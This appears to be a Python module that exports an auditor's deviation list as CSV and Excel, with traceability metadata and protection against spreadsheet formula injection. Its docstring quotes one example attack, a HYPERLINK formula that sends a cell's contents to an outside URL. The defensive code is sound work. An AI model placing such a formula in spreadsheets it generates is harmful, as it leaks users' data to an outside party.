"""Files for auditors: the deviation list as CSV and Excel, traceable to the analysis run.

Every row carries ``run_id`` and ``model_sha256`` (the checksum of the SOP model file the case
was checked against); the Excel file adds a ``metadata`` sheet with the filters, the runs and
when the file was made. Pure: DataFrame in, bytes out.

This module is the one place a table becomes a spreadsheet file, and every such file is safe
to open (OWASP "CSV injection"): a text cell beginning with ``=``, ``+``, ``-``, ``@``, a tab or
a carriage return would be read by Excel or LibreOffice as a formula (``=HYPERLINK("http://…/
?leak="&A2, …)`` sends the row away), so it gets a leading ``'`` (:func:`neutralise`); numeric
columns are left alone, so a negative number stays a number. Excel cells are written as
strings, never formulas, and without the control characters Excel files cannot hold.
"""

from __future__ import annotations

import io
import re
from datetime import UTC, datetime
from typing import Any

import pandas as pd

from dashboard.filters import Filters

EXCEL_MAX_ROWS = 1_048_575  # one header row
CSV_MIME = "text/csv"
XLSX_MIME = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
TABLE_MIMES = frozenset({CSV_MIME, XLSX_MIME, "application/vnd.ms-excel"})
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
SAFE_PREFIX = "'"
_FORMULA_START_RE = "^[" + "".join(re.escape(c) for c in FORMULA_START) + "]"  # the same characters
# what an .xlsx cannot hold (openpyxl's IllegalCharacterError): C0 controls but tab, LF, CR
_EXCEL_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


def safe_cell(value: Any) -> Any:
    """One value as a spreadsheet may hold it: text that a spreadsheet would read as a formula
    gets a leading ``'``, and a carriage return inside text becomes a line feed (a CSV writer
    that leaves a lone CR unquoted would start a new row, and a formula, with what follows it);
    anything else (numbers, dates) is returned as it is."""
    if not isinstance(value, str):
        return value
    if value.startswith(FORMULA_START):
        value = SAFE_PREFIX + value
    return value.replace("\r\n", "\n").replace("\r", "\n") if "\r" in value else value


def _is_text(series: pd.Series) -> bool:
    return pd.api.types.is_object_dtype(series.dtype) or pd.api.types.is_string_dtype(series.dtype)


def neutralise(df: pd.DataFrame) -> pd.DataFrame:
    """``df`` with every text cell (and column name) that could start a formula prefixed by
    ``'``. Numeric, boolean and date columns are untouched; idempotent."""
    out = df.rename(columns=lambda c: safe_cell(c) if isinstance(c, str) else c)
    changed = {}
    for position in range(out.shape[1]):
        series = out.iloc[:, position]
        if not _is_text(series):
            continue
        text = series.map(lambda v: v if isinstance(v, str) else None)
        risky = text.str.contains(_FORMULA_START_RE, regex=True, na=False) | text.str.contains("\r", na=False)
        if risky.any():  # the few risky cells one by one; the rest stays as it is
            changed[position] = series.where(~risky, series[risky].map(safe_cell))
    if not changed:
        return out
    out = out.copy()
    for position, series in changed.items():
        out.isetitem(position, series)
    return out


def metadata(df: pd.DataFrame, filters: Filters, db_name: str) -> dict[str, Any]:
    """What the export was made from: database, filters, runs and model checksums."""
    runs = sorted({int(r) for r in df["run_id"].dropna()}) if "run_id" in df else []
    models = (df[["sop_id", "model_sha256"]].drop_duplicates().sort_values("sop_id")
              if {"sop_id", "model_sha256"} <= set(df.columns) else pd.DataFrame())
    return {
        "generated_utc": datetime.now(UTC).strftime("%Y-%m-%d %H:%M:%S"),
        "database": db_name,
        "run_ids": ", ".join(map(str, runs)) or "-",
        "model_sha256": "; ".join(f"{r.sop_id}={r.model_sha256}" for r in models.itertuples()) or "-",
        "filter_agency": filters.agency or "(semua)",
        "filter_sop": filters.sop_id or "(semua)",
        "filter_unit": filters.unit or "(semua)",
        "filter_period": f"{filters.start or '…'} – {filters.end or '…'}",
        "rows": len(df),
    }


def to_csv(df: pd.DataFrame) -> bytes:
    """UTF-8 CSV with a byte-order mark (Excel opens it with the right characters), every
    cell safe to open (:func:`neutralise`)."""
    return neutralise(df).to_csv(index=False).encode("utf-8-sig")


def _excel_text(df: pd.DataFrame) -> pd.DataFrame:
    """Time zones written out (Excel has none) and characters an .xlsx cannot hold removed."""
    for column in df.columns:
        if isinstance(df[column].dtype, pd.DatetimeTZDtype):
            df = df.assign(**{column: df[column].dt.strftime("%Y-%m-%d %H:%M:%S%z")})
        elif _is_text(df[column]):
            df = df.assign(**{column: df[column].map(
                lambda v: _EXCEL_ILLEGAL.sub("", v) if isinstance(v, str) else v)})
    return df


def to_xlsx(df: pd.DataFrame, meta: dict[str, Any], sheet: str = "deviasi") -> bytes:
    """An Excel workbook: the rows (cut at Excel's limit, noted in the metadata) and metadata,
    every text cell a string (never a formula)."""
    out = io.BytesIO()
    meta = dict(meta)
    if len(df) > EXCEL_MAX_ROWS:
        meta["truncated_to_rows"] = EXCEL_MAX_ROWS
        df = df.head(EXCEL_MAX_ROWS)
    rows = neutralise(_excel_text(df))
    about = neutralise(_excel_text(pd.DataFrame({"key": list(meta), "value": [str(v) for v in meta.values()]})))
    with pd.ExcelWriter(out, engine="openpyxl") as writer:
        rows.to_excel(writer, sheet_name=sheet, index=False)
        about.to_excel(writer, sheet_name="metadata", index=False)
    return out.getvalue()


def export_metadata(df: pd.DataFrame, filters: Filters, db_name: str, *, kind: str, as_of: str,
                    kinds: tuple[str, ...] | None = None, scope: str | None = None,
                    period_reads: str = "") -> dict[str, Any]:
    """:func:`metadata` plus what an auditor must be able to restate: which export, the as-of
    the open cases were judged at, and every filter, the deviation kinds and the case scope
    included for a deviation export (``(semua)`` when not limited)."""
    meta = metadata(df, filters, db_name)
    meta = {"export": kind, **meta, "as_of": as_of or "-"}
    if kinds is not None:  # a deviation export: its kind filter, listed even when not used
        meta["filter_deviation_kinds"] = ", ".join(kinds) if kinds else "(semua)"
    if scope is not None:
        meta["filter_case_scope"] = scope
    if period_reads:
        meta["filter_period_reads"] = period_reads
    meta["rows"] = len(df)
    return meta


def to_xlsx_documented(df: pd.DataFrame, meta: dict[str, Any], columns: dict[str, str],
                       sheet: str = "data") -> bytes:
    """:func:`to_xlsx` (rows and metadata) with a third sheet, ``columns``, saying what each
    column of the rows means."""
    import openpyxl

    book = openpyxl.load_workbook(io.BytesIO(to_xlsx(df, meta, sheet=sheet)))
    described = book.create_sheet("columns")
    described.append(["column", "meaning"])
    for name in df.columns:
        described.append([str(name), columns.get(str(name), "")])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()
